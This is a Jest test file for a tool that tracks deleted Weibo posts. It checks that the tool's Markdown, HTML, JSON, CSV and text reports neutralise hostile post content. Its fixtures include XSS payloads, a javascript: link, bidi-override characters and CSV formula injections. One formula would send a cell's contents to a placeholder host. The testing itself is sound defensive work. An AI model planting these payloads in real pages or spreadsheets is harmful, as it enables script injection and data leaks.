/**
 * Reports and exports of posts whose text, author and notice are hostile: anyone writes a post.
 * The md, html and claim text forms stay well-formed and show invisible characters as ⟨U+XXXX⟩;
 * JSON and plain CSV keep the evidence exact (lone surrogates aside, which UTF-8 cannot carry);
 * `--excel` defuses formulas. The database is filled through the Store as the recorder fills it.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseDocument } from 'htmlparser2';
import { selectAll, selectOne } from 'css-select';
import type { AnyNode, Element } from 'domhandler';
import { textContent } from 'domutils';
import { buildClaim, renderClaimJson, renderClaimText } from '../../../src/report/claim';
import {
  TARGET_COLUMNS,
  exportEvents,
  exportTargets,
  type TargetExportRow,
} from '../../../src/report/export';
import { renderHtml } from '../../../src/report/html';
import { mdCell, renderMarkdown } from '../../../src/report/markdown';
import { buildReport, renderJson } from '../../../src/report/report';
import { Store } from '../../../src/store/store';
import { cli } from '../cli/helpers';
import { HOUR, History, MIN, Sink, T0, WEIBO_URL, content, parseCsv } from './helpers';

jest.setTimeout(300_000);

/** Each hostile string is a post's text, the next one its author's name, the one after its notice. */
const HOSTILE = {
  invisible: 'free\u200bdom \u200eleft\u202eexe.txt\u2066isolated\u2067rtl\u2068first\u2069 \ufeffbom',
  separators: 'line\u2028separator\u2029paragraph',
  surrogates: 'lone \ud800 high, lone \udc00 low, a pair 😀 stays',
  controls: 'nul\u0000 bell\u0007 esc\u001b[31m del\u007f nel\u0085 end',
  markdown:
    '| a | b |\n|---|---|\n* _em_ `code` [link](javascript:alert(1)) ![i](x) # h > q ~~s~~ &amp; &lt;b&gt; <b>x</b>',
  list: '1. first\n2) second',
  html: '<script>alert(1)</script>"><img src=x onerror=alert(1)></textarea><svg onload=alert(1)>',
  formula: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  plus: '+1+2',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\tstarts with a tab',
  cr: '\rstarts with a CR',
  long: '长文'.repeat(3000) + ' end',
  cjk: '该微博因被多人投诉，根据《微博社区公约》，已被删除。',
} as const;
const KEYS = Object.keys(HOSTILE) as (keyof typeof HOSTILE)[];
const VALUES = KEYS.map((k) => HOSTILE[k]);
const WATCH_NAME = 'Hostile | topic \u202e[x](y) <b>\u200b';
const KEYWORD = '自由\u200b<script>';
/** A post only seen in a listing: its text comes from the stored content, lone surrogates intact. */
const PARTIAL_ID = '4990000000000099';
const PARTIAL_TEXT = HOSTILE.surrogates + ' ' + HOSTILE.invisible;

/** The first post's edit, so the edit's diff (kept as JSON) carries lone surrogates too. */
const EDITED = `${HOSTILE.invisible} ${HOSTILE.html} ${HOSTILE.surrogates}`;

const mid = (i: number): string => `49900000000000${String(i).padStart(2, '0')}`;
const author = (i: number): string => VALUES[(i + 1) % VALUES.length]!;
const notice = (i: number): string => VALUES[(i + 2) % VALUES.length]!;

/** Raw invisible characters; a rendered form may keep only tab, LF and CR of them. */
const RAW_INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const LONE_SURROGATE = /\p{Cs}/u;

/** The evidence as a UTF-8 file carries it: a run of U+FFFD where a lone surrogate was. */
function carried(s: string): string {
  return s.replace(/\p{Cs}/gu, '\ufffd').replace(/\ufffd+/g, '\ufffd');
}
/** Undoes the ⟨U+XXXX⟩ marks of a rendered form. */
function unmark(s: string): string {
  return s.replace(/⟨U\+([0-9A-F]{4,6})⟩/g, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)));
}

const $$ = (q: string, root: AnyNode | AnyNode[]): Element[] => selectAll(q, root);
const $ = (q: string, root: AnyNode | AnyNode[]): Element | null => selectOne(q, root);

let dir: string;
let db: string;
let config: string;
let store: Store;

function seed(s: Store): void {
  s.syncWatches(
    [{ id: 'hostile', name: WATCH_NAME }],
    [{ watchId: 'hostile', platform: 'weibo', mode: 'keyword', query: KEYWORD }],
    T0,
  );
  const h = new History(s);
  VALUES.forEach((text, i) => {
    const row = h.target('weibo', 'post', mid(i), WEIBO_URL(mid(i)), ['hostile'], T0 + i * MIN);
    const c = content(text, { author: { id: `77${i}`, name: author(i) } });
    h.alive(row, T0 + i * MIN, c);
    if (i === 0) h.alive(row, T0 + HOUR, content(EDITED, { author: c.author }));
    h.final(row, T0 + 2 * HOUR, 'removed_by_platform', notice(i));
    h.final(row, T0 + 2 * HOUR + 5 * MIN, 'removed_by_platform', notice(i));
  });
  const p = h.target('weibo', 'post', PARTIAL_ID, WEIBO_URL(PARTIAL_ID), ['hostile'], T0);
  h.alive(p, T0, content(PARTIAL_TEXT, { author: { id: '7799', name: HOSTILE.markdown } }), true);
  const [src] = s.listSources('hostile');
  s.recordSearchObservation({
    sourceId: src!.id,
    at: T0 + HOUR,
    outcome: 'withheld',
    results: 0,
    message: HOSTILE.invisible,
    body: null,
    page: null,
  });
  s.updateSearchState(src!.id, 'withheld', true, T0 + HOUR);
  s.insertEvent({
    type: 'search.blocked',
    at: T0 + HOUR,
    watchId: 'hostile',
    platform: 'weibo',
    targetRowId: null,
    nativeId: null,
    keyword: KEYWORD,
    cause: null,
    detail: { reason: 'notice', notice: HOSTILE.controls, results: 0 },
    dedupeKey: 'search.blocked:hostile',
  });
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'censorwatch-hostile-'));
  db = join(dir, 'cw.db');
  store = Store.open(db);
  seed(store);
  config = join(dir, 'watch.yaml');
  writeFileSync(
    config,
    `database: ${db}\nwatches:\n  - { id: hostile, name: Hostile, weibo: { keywords: ["自由"] } }\n`,
  );
});
afterAll(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

function report(): ReturnType<typeof buildReport> {
  return buildReport(store, { watchId: 'hostile', now: T0 + 3 * HOUR, configPath: config });
}

async function jsonlTargets(): Promise<{ lines: string[]; rows: TargetExportRow[] }> {
  const sink = new Sink();
  await exportTargets(store, { format: 'jsonl' }, sink);
  const lines = sink.text().split('\n');
  expect(lines.pop()).toBe('');
  return { lines, rows: lines.map((l) => JSON.parse(l) as TargetExportRow) };
}

/** Every string in a parsed JSON value. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v) strings(x, out);
  else if (v && typeof v === 'object') {
    for (const [k, x] of Object.entries(v)) {
      out.push(k);
      strings(x, out);
    }
  }
  return out;
}

/**
 * Splits a GFM table row into cells as GitHub does: a backslash takes the next character with
 * it, an unescaped pipe ends a cell. Returns the cells without the row's outer pipes.
 */
function gfmCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (c === '\\' && i + 1 < line.length) {
      cell += c + line[i + 1];
      i++;
    } else if (c === '|') {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  expect(cells.shift()!.trim()).toBe('');
  expect(cells.pop()!.trim()).toBe('');
  return cells.map((x) => x.trim());
}

/** Markdown syntax characters left unescaped in a cell (outside code spans there are none). */
function unescapedSyntax(cell: string): string[] {
  const found: string[] = [];
  for (let i = 0; i < cell.length; i++) {
    const c = cell[i]!;
    if (c === '\\') i++;
    else if ('|*_`[]()<>#&~!'.includes(c)) found.push(c);
  }
  return found;
}

/** A cell's text as a reader sees it: Markdown escapes and code-point marks undone. */
function mdText(cell: string): string {
  return unmark(cell.replace(/\\([!-/:-@[-`{-~])/g, '$1'));
}

describe('md report', () => {
  let md: string;
  let rows: string[][];
  beforeAll(() => {
    md = renderMarkdown(report());
    const lines = md.split('\n');
    const head = lines.findIndex((l) => l.startsWith('| deletion window'));
    expect(head).toBeGreaterThan(0);
    const body: string[] = [];
    for (let i = head + 2; lines[i]!.startsWith('|'); i++) body.push(lines[i]!);
    rows = body.map(gfmCells);
  });

  it('keeps every gone post in one row of seven cells, whatever its text holds', () => {
    expect(rows).toHaveLength(VALUES.length);
    for (const r of rows) expect(r).toHaveLength(7);
    // Every line of a table has as many cells as its header.
    let width = 0;
    for (const line of md.split('\n')) {
      if (!line.startsWith('|')) width = 0;
      else if (width === 0) width = gfmCells(line).length;
      else expect(gfmCells(line)).toHaveLength(width);
    }
  });

  it('leaves no link, image, HTML, entity or emphasis syntax unescaped in author, notice and text', () => {
    for (const r of rows) {
      for (const cell of [r[2]!, r[4]!, r[5]!]) expect(unescapedSyntax(cell)).toEqual([]);
    }
    expect(md).not.toMatch(/(^|[^\\])<(script|img|svg|b)\b/);
    expect(md).toContain('1\\. first 2\\) second');
  });

  it('shows each invisible or control character as ⟨U+XXXX⟩ and keeps none raw', () => {
    for (const line of md.split('\n')) expect(line).not.toMatch(RAW_INVISIBLE);
    for (const cp of ['200B', '200E', '202E', '2066', '2067', '2068', '2069', 'FEFF', '2028', '2029']) {
      expect(md).toContain(`⟨U+${cp}⟩`);
    }
    for (const cp of ['0000', '0007', '001B', '007F', '0085', '0009']) {
      expect(md).toContain(`⟨U+${cp}⟩`);
    }
    expect(md).toContain('⟨U+XXXX⟩ stands for an invisible or control character');
    expect(md).toMatch(/^## Hostile \\\| topic ⟨U\+202E⟩\\\[x\\\]\\\(y\\\) \\<b\\>⟨U\+200B⟩ /m);
  });

  it('says what the post, its author and the notice said, on one line, the text cut at 140', async () => {
    const { rows: exported } = await jsonlTargets();
    const byId = new Map(exported.map((r) => [r.id, r]));
    // Line breaks become spaces; a table trims its cells.
    const oneLine = (s: string): string => s.replace(/[ \t]*[\r\n]+[ \t]*/g, ' ').replace(/^ +| +$/g, '');
    for (const r of rows) {
      const id = /`(\d+)`/.exec(r[1]!)![1]!;
      const x = byId.get(id)!;
      expect(carried(mdText(r[2]!))).toBe(carried(oneLine(x.author!)));
      expect(carried(mdText(r[4]!))).toBe(carried(oneLine(x.notice!)));
      const shown = mdText(r[5]!);
      const whole = oneLine(x.text!);
      if (Array.from(whole).length > 140) {
        expect(shown.endsWith('…')).toBe(true);
        expect(Array.from(shown)).toHaveLength(141);
        expect(carried(whole).startsWith(carried(shown.slice(0, -1)))).toBe(true);
      } else expect(carried(shown)).toBe(carried(whole));
    }
  });

  it('escapes a cell so Markdown shows it as written', () => {
    expect(mdCell('a & b ~~c~~ \u2028 [x](y)')).toBe('a \\& b \\~\\~c\\~\\~ ⟨U+2028⟩ \\[x\\]\\(y\\)');
    expect(mdCell('1. one')).toBe('1\\. one');
    expect(mdCell('x\r\ny\tz')).toBe('x y⟨U+0009⟩z');
  });
});

describe('html report', () => {
  let html: string;
  let doc: ReturnType<typeof parseDocument>;
  beforeAll(() => {
    html = renderHtml(report());
    doc = parseDocument(html);
  });

  it('has no executable markup: no script, no event handler, no image, no frame, no form field', () => {
    expect($$('script, img, iframe, object, embed, textarea, form, input, base', doc)).toEqual([]);
    for (const el of $$('*', doc)) {
      for (const name of Object.keys(el.attribs)) expect(name).not.toMatch(/^on/i);
      if (el.attribs.href !== undefined) expect(el.attribs.href).toMatch(/^https:\/\/m\.weibo\.cn\//);
      if (el.attribs.style !== undefined) expect(el.attribs.style).not.toMatch(/url\(|expression/i);
    }
    expect($$('svg', doc).every((s) => $$('span, foreignObject', s).length === 0)).toBe(true);
  });

  it('stays one well-formed page: one html, head and body, the gone table whole', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect($$('html', doc)).toHaveLength(1);
    expect($$('head', doc)).toHaveLength(1);
    expect($$('body', doc)).toHaveLength(1);
    expect($$('head > title', doc)).toHaveLength(1);
    const gone = $$('table.gone > tbody > tr', doc);
    expect(gone).toHaveLength(VALUES.length);
    for (const tr of gone) expect($$('td', tr)).toHaveLength(5);
    // The body holds what the page rendered last, so nothing swallowed it.
    const last = $$('body > *', doc).at(-1)!;
    expect(textContent(last)).toContain('⟨U+XXXX⟩ stands for an invisible or control character');
    // Raw, only the whitespace a page may hold: tab, LF and CR.
    expect(html).not.toMatch(/(?![\t\n\r])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
  });

  it('shows the text, author and notice exactly, invisible characters as ⟨U+XXXX⟩', async () => {
    const { rows: exported } = await jsonlTargets();
    const byId = new Map(exported.map((r) => [r.id, r]));
    for (const tr of $$('table.gone > tbody > tr', doc)) {
      const [, post, cause, text] = $$('td', tr);
      const id = textContent($('.mono', post!)!);
      const x = byId.get(id)!;
      expect(carried(unmark(textContent(text!)))).toBe(carried(x.text!));
      expect(carried(unmark(textContent($('.notice', cause!)!)))).toBe(carried(x.notice!));
      expect(carried(unmark(textContent($('span[lang]', post!)!)))).toBe(carried(x.author!));
    }
    expect($$('span.cp', doc).map((s) => textContent(s))).toEqual(
      expect.arrayContaining(['⟨U+200B⟩', '⟨U+202E⟩', '⟨U+2066⟩', '⟨U+FEFF⟩', '⟨U+2028⟩', '⟨U+0000⟩']),
    );
    expect(textContent($('title', doc)!)).toContain('Hostile | topic ⟨U+202E⟩[x](y) <b>⟨U+200B⟩');
  });
});

describe('json report and exports', () => {
  it('json report: valid JSON, no lone surrogate, every other character kept', () => {
    const text = renderJson(report());
    expect(text).not.toMatch(/\\ud[89a-f][0-9a-f]{2}/i);
    const r = JSON.parse(text) as { watches: { gone: { id: string; lastAliveText: string | null }[] }[] };
    for (const s of strings(r)) expect(s).not.toMatch(LONE_SURROGATE);
    const gone = r.watches[0]!.gone;
    expect(gone).toHaveLength(VALUES.length);
    for (const g of gone) {
      const i = Number(g.id.slice(-2));
      const expected = i === 0 ? EDITED : VALUES[i]!;
      expect(carried(g.lastAliveText!)).toBe(carried(expected));
    }
    expect(strings(r)).toEqual(expect.arrayContaining([WATCH_NAME, HOSTILE.controls, HOSTILE.long]));
  });

  it('jsonl targets: one valid JSON value per line; text, author and notice exact but lone surrogates', async () => {
    const { lines, rows } = await jsonlTargets();
    expect(rows).toHaveLength(VALUES.length + 1);
    for (const l of lines) expect(l).not.toMatch(/\\ud[89a-f][0-9a-f]{2}/i);
    for (const r of rows) for (const s of strings(r)) expect(s).not.toMatch(LONE_SURROGATE);
    for (const r of rows.filter((x) => x.id !== PARTIAL_ID)) {
      const i = Number(r.id.slice(-2));
      expect(carried(r.author!)).toBe(carried(author(i)));
      expect(carried(r.notice!)).toBe(carried(notice(i)));
      expect(carried(r.text!)).toBe(carried(i === 0 ? EDITED : VALUES[i]!));
    }
    // From the stored content, where the lone surrogates survived: each becomes one U+FFFD.
    const partial = rows.find((x) => x.id === PARTIAL_ID)!;
    expect(partial.text).toBe(PARTIAL_TEXT.replace(/\p{Cs}/gu, '\ufffd'));
    expect(rows.find((x) => x.id === mid(KEYS.indexOf('controls')))!.text).toBe(HOSTILE.controls);
    expect(rows.find((x) => x.id === mid(KEYS.indexOf('separators')))!.text).toBe(HOSTILE.separators);
  });

  it('jsonl events: valid JSON per line, the edit and notice details without lone surrogates', async () => {
    const sink = new Sink();
    await exportEvents(store, { format: 'jsonl' }, sink);
    const lines = sink.text().split('\n');
    expect(lines.pop()).toBe('');
    const rows = lines.map((l) => JSON.parse(l) as { type: string; detail: Record<string, unknown> });
    for (const r of rows) for (const s of strings(r)) expect(s).not.toMatch(LONE_SURROGATE);
    expect(rows.find((r) => r.type === 'search.blocked')!.detail.notice).toBe(HOSTILE.controls);
    expect(rows.some((r) => r.type === 'post.edited')).toBe(true);
  });
});

describe('csv export', () => {
  /** RFC 4180, written independently of the exporter: quote when a quote, comma, CR or LF is inside. */
  const rfc = (s: string): string => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  const cell = (v: unknown): string =>
    v === null ? '' : Array.isArray(v) ? v.join(';') : typeof v === 'object' ? JSON.stringify(v) : String(v);

  it('plain CSV is the JSONL rows quoted per RFC 4180, byte for byte, text unaltered', async () => {
    const { rows } = await jsonlTargets();
    const sink = new Sink();
    await exportTargets(store, { format: 'csv' }, sink);
    const expected =
      [
        TARGET_COLUMNS.join(','),
        ...rows.map((r) => TARGET_COLUMNS.map((c) => rfc(cell(r[c]))).join(',')),
      ].join('\r\n') + '\r\n';
    expect(sink.text()).toBe(expected);
    const parsed = parseCsv(sink.text());
    expect(parsed).toHaveLength(rows.length + 1);
    for (const p of parsed) expect(p).toHaveLength(TARGET_COLUMNS.length);
    const text = TARGET_COLUMNS.indexOf('text');
    expect(parsed.map((p) => p[text])).toEqual(
      expect.arrayContaining([HOSTILE.formula, HOSTILE.cr, HOSTILE.tab]),
    );
  });

  it('--excel puts an apostrophe before = + - @ tab and CR starts, and changes nothing else', async () => {
    const { rows } = await jsonlTargets();
    const sink = new Sink();
    await exportTargets(store, { format: 'csv', excel: true }, sink);
    const out = sink.text();
    expect(out.charCodeAt(0)).toBe(0xfeff);
    const parsed = parseCsv(out.slice(1));
    expect(parsed[0]).toEqual([...TARGET_COLUMNS]);
    const ids = new Set(['id', 'authorId']);
    rows.forEach((r, n) => {
      TARGET_COLUMNS.forEach((c, j) => {
        const plain = cell(r[c]);
        const got = parsed[n + 1]![j]!;
        if (ids.has(c)) expect(got).toBe(plain === '' ? '' : `="${plain}"`);
        else if (/^[=+\-@\t\r]/.test(plain)) expect(got).toBe(`'${plain}`);
        else expect(got).toBe(plain);
      });
    });
    const text = TARGET_COLUMNS.indexOf('text');
    const texts = parsed.slice(1).map((p) => p[text]);
    for (const v of [HOSTILE.formula, HOSTILE.plus, HOSTILE.minus, HOSTILE.at, HOSTILE.tab, HOSTILE.cr]) {
      expect(texts).toContain(`'${v}`);
    }
    expect(texts).toContain(HOSTILE.cjk);
  });
});

describe('claim text', () => {
  it('shows the watch name and keyword invisibles as ⟨U+XXXX⟩, on one line', () => {
    const c = buildClaim(store, { watchId: 'hostile', discoverEvery: 10 * MIN });
    const text = renderClaimText(c);
    expect(text.endsWith('\n')).toBe(true);
    expect(text.slice(0, -1)).not.toMatch(RAW_INVISIBLE);
    expect(text).toContain('"Hostile | topic ⟨U+202E⟩[x](y) <b>⟨U+200B⟩"');
    expect(text).toContain('自由⟨U+200B⟩<script>');
    const json = JSON.parse(renderClaimJson(c)) as Record<string, unknown>;
    expect(json.watch).toBe('hostile');
  });
});

describe('through the CLI', () => {
  it('report md and html, export csv --excel and claim text stay safe on stdout', async () => {
    const md = await cli(['report', '-c', config, '-w', 'hostile', '-f', 'md']);
    expect(md.code).toBe(0);
    for (const line of md.stdout.split('\n')) expect(line).not.toMatch(RAW_INVISIBLE);
    expect(md.stdout).toContain('⟨U+202E⟩');
    const html = await cli(['report', '-c', config, '-w', 'hostile', '-f', 'html']);
    expect(html.code).toBe(0);
    expect($$('script, img', parseDocument(html.stdout))).toEqual([]);
    const excel = await cli(['export', '-c', config, '-f', 'csv', '--excel']);
    expect(excel.code).toBe(0);
    expect(excel.stdout).toContain(`"'${HOSTILE.formula.replace(/"/g, '""')}"`);
    const claim = await cli(['claim', '-c', config, '-w', 'hostile']);
    expect(claim.code).toBe(0);
    expect(claim.stdout.trim().split('\n')).toHaveLength(1);
    expect(claim.stdout).toContain('⟨U+202E⟩');
    const help = await cli(['export', '--help']);
    expect(help.stdout).toMatch(/--excel[\s\S]*apostrophe/);
  });
});
